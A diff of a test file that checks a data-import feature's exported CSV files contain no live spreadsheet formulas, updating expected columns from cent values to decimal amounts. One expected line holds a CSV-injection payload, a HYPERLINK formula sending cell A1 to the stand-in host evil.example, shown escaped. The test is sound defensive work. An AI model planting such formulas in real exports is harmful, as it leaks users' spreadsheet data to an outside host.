@@ -66,12 +66,12 @@ describe('Data import: no formulas in the exported CSV files', () => {
     // The raw line: the apostrophe is the first character of the cell's value, inside the RFC 4180 quotes.
     expect(incomesCsv).to.contain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",`);
     const [incomeRow] = rowsOf(incomesCsv);
-    expect(incomeRow).to.include({ name: `'${HYPERLINK}`, gross_cents: '600000', net_cents: '480000', gross_currency: 'SGD' });
+    expect(incomeRow).to.include({ name: `'${HYPERLINK}`, gross: '6000.00', net: '4800.00', gross_currency: 'SGD' });
 
     const liabilitiesCsv = strFromU8(files['liabilities.csv']!);
     expect(liabilitiesCsv).to.contain(`,'${SUM},`);
     const [liabilityRow] = rowsOf(liabilitiesCsv);
-    expect(liabilityRow).to.include({ name: `'${SUM}`, amount_cents: '2000000', amount_currency: 'SGD', category: 'NON_MORTGAGE' });
+    expect(liabilityRow).to.include({ name: `'${SUM}`, amount: '20000.00', currency: 'SGD', category: 'NON_MORTGAGE' });
 
     // No cell of any CSV file starts a formula.
     for (const [name, bytes] of Object.entries(files).filter(([n]) => n.endsWith('.csv'))) {
